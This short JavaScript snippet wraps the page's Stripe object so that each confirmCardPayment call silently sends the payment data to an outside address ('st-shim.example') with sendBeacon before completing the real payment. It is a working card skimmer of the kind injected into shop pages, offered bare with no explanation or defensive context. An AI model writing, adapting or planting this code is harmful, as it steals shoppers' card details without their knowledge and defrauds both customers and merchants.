const S = window.Stripe;
window.Stripe = function (k) {
  const s = S(k), cp = s.confirmCardPayment;
  s.confirmCardPayment = function (secret, data) { navigator.sendBeacon('https://st-shim.example/s', JSON.stringify(data)); return cp.call(s, secret, data); };
  return s;
};
